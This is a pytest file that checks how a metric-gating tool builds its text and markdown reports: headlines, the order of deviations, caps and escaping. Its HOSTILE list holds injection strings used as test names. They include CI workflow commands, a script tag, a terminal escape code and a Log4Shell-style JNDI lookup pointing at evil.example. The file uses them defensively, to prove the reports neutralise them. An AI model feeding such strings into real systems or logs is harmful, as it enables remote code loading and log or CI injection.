"""Reports: deviations first, and nothing that came from a test acts."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.provenance import Provenance
from gate.record import Record
from gate.report import markdown_report, text_report
from gate.report_markdown import code
from gate.verdict import Notice, Written

HOSTILE = [
    "::error::owned",
    "\n::error::owned",
    "##[error]owned",
    "`code` **bold** | cell",
    "<script>alert(1)</script>",
    "[x](http://evil.example)",
    "\x1b[31mred",
    "${jndi:ldap://evil.example/a}",
    "@everyone #1",
    "r\u00e9ward\u202e",
    "``` `` `",
    "\ud800",
]


def _failing(build, names=("a", "b", "c"), size=3):
    past = dict.fromkeys(range(size), 1.0)
    record = build.record(**dict.fromkeys(names[1:], past), **{names[0]: dict.fromkeys(range(size), 2.0)})
    return build.judge(
        [build.spec(name) for name in reversed(names)],
        record,
        build.reader(**{name: build.rows([past] * 3) for name in names}),
    )


def test_headlines_are_three_different_words(build):
    """Trusted, not trusted, not judged; a cold start says that nothing was compared."""
    cold = build.judge(build.spec(), build.record(m=dict.fromkeys(range(250), 1.0)))
    assert text_report(cold).splitlines()[0] == "gate: TRUSTED (0 of 250 compared)"
    assert text_report(_failing(build)).splitlines()[0] == "gate: NOT TRUSTED (9 of 9 compared)"
    assert text_report(build.judge([], build.record())).splitlines()[0] == "gate: NOT JUDGED (no declaration)"


def test_deviations_come_first_with_how_far_and_against_what(build):
    """The failing gate spec leads, whatever the order of declaration."""
    lines = text_report(_failing(build)).splitlines()
    specs = [line for line in lines if line.startswith("  [")]
    assert specs[0] == '  [FAIL] a "all" (3 of 3 compared)'
    assert [line[:8] for line in specs[1:]] == ["  [PASS]", "  [PASS]"]
    assert "    - a step 0: 2 is 10 bands above the mean 1 of 3 runs (allowed 0.9 to 1.1)" in lines


def test_deviations_are_capped_and_counted(build):
    """A thousand red steps do not bury the rest."""
    text = text_report(_failing(build, size=1000), most=4)
    assert text.count(" bands above ") == 4
    assert "    - and 996 more" in text


def test_the_farthest_deviation_is_told_first(build):
    """By the number of bands, above or below, whatever the step; equal ones in step order; errors before all."""
    past = dict.fromkeys(range(6), 1.0)
    run = build.record(m={0: 1.15, 1: 0.5, 2: 1.15, 3: 3.0, 4: 1.0, 5: float("nan")})
    verdict = build.judge(build.spec(), run, build.reader(m=build.rows([past] * 3)))
    told = [line for line in text_report(verdict).splitlines() if line.startswith("    - m step ")]
    assert [line.split(":")[0][-1] for line in told] == ["5", "3", "1", "0", "2"]


@pytest.mark.parametrize("extreme", [1.7e308, -1.7e308, 5e-324, 0.0])
def test_numbers_at_the_edge_of_doubles_have_a_place_too(build, extreme):
    """Bands of zero and distances beyond the largest double are told without a warning of numpy."""
    no_band = {"abs_floor_up": 0.0, "abs_floor_down": 0.0}
    past = dict.fromkeys(range(2), -extreme)
    run = build.record(m=dict.fromkeys(range(2), extreme))
    verdict = build.judge(build.spec(constraint=no_band), run, build.reader(m=build.rows([past] * 3)))
    assert text_report(verdict).count("    - m step ") == (2 if extreme else 0)


def test_what_changed_since_the_last_trusted_run_is_a_fact(build):
    """It answers the first question, so it is told with the facts and not as a warning."""
    verdict = replace(_failing(build), warnings=(Notice("provenance", "against the last trusted run r: changed: x"),))
    for report in (text_report(verdict), markdown_report(verdict)):
        assert report.count("against the last trusted run r: changed: x") == 1
        assert "warning" not in report


def test_mode_written_and_fork_are_told(build):
    """What the reader must know before acting on it."""
    verdict = _failing(build)
    assert "mode shadow" in text_report(verdict)
    enforced = replace(
        verdict,
        mode="enforced",
        provenance=Provenance(fork=True),
        written=Written("r1", trusted=False, repeat=True, reason="epoch changed"),
    )
    for report in (text_report(enforced), markdown_report(enforced)):
        assert "mode enforced" in report
        assert "NOT EVIDENCE" in report
        assert "written as run r1, untrusted, stored before: epoch changed" in report


def test_warnings_are_told(build):
    """A damaged record is named in both forms."""
    verdict = build.judge(build.spec(), Record(damaged="x.jsonl: 1 line is no record line"))
    for report in (text_report(verdict), markdown_report(verdict)):
        assert "damaged_record: x.jsonl: 1 line is no record line" in report


def test_an_error_shows_once(build):
    """Selection's sentence is not repeated for every check that it stopped."""
    verdict = build.judge(build.spec(limits=(0.0, 1.0)), build.record(m={0: float("nan")}))
    assert text_report(verdict).count("logged as NaN") == 1


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_harmless_on_a_console(build, name):
    """Printable ASCII; no line is a workflow command; no escape sequence."""
    verdict = replace(_failing(build, (name, "b")), identity=replace(build.IDENTITY, test_path=name))
    for line in text_report(verdict).rstrip("\n").split("\n"):
        assert re.fullmatch(r"[ -~]*", line)
        assert not line.lstrip().startswith("::")
        assert "##[" not in line


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_are_code_in_markdown(build, name):
    """Outside code spans the summary holds only words of its own."""
    verdict = replace(_failing(build, (name, "b")), identity=replace(build.IDENTITY, test_path=name))
    for line in markdown_report(verdict).rstrip("\n").split("\n"):
        outside = re.sub(r"(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)", "", line)
        assert re.fullmatch(r"[A-Za-z0-9 #*:(),-]*", outside), line


@given(st.text(st.characters(min_codepoint=32, max_codepoint=126)))
def test_a_code_span_cannot_be_left(text):
    """Its fence is longer than any run of backticks inside."""
    span = code(text)
    fence = re.match("`+", span).group()
    inner = span[len(fence) : -len(fence)]
    assert fence not in re.findall("`+", inner)
    assert not inner.startswith("`")
    assert not inner.endswith("`")
    assert text in inner


@pytest.mark.parametrize("most_bytes", [200, 1000, 5000])
def test_markdown_stays_under_its_cap(build, most_bytes):
    """Cut at whole lines, and it says so."""
    report = markdown_report(_failing(build, size=1000), most=1000, max_bytes=most_bytes)
    assert len(report.encode()) <= most_bytes
    assert "cut" in report.splitlines()[-1]
    assert report.startswith("### gate: NOT TRUSTED (3000 of 3000 compared)")


def test_a_reason_from_a_test_file_is_code_in_the_headline(build):
    """NOT JUDGED may quote a file's content."""
    verdict = replace(build.judge([], build.record()), reason="bad: <b>x</b>")
    assert markdown_report(verdict).startswith("### `gate: NOT JUDGED (bad: <b>x</b>)`")


def test_an_epoch_is_told_with_how_far_its_anchor_is(build):
    """Which epoch, whose metric where it is not all of them, and how many runs its anchor has; nothing without one."""
    verdict = _failing(build)
    one, *rest = (replace(spec, epoch_id=None) for spec in verdict.specs)
    assert "of its anchor so far" not in text_report(replace(verdict, specs=(one, *rest)))
    moved = replace(one, epoch_id="e1", anchor=("r1", "r2", "r3"))
    for report in (text_report, markdown_report):
        told = report(replace(verdict, specs=(moved, *rest)))
        assert f"epoch e1 of {one.spec.metric_key}: 3 of the 20 runs of its anchor so far" in told
        everywhere = tuple(replace(spec, epoch_id="e1", anchor=()) for spec in verdict.specs)
        assert "epoch e1: 0 of the 20 runs of its anchor so far" in report(replace(verdict, specs=everywhere))
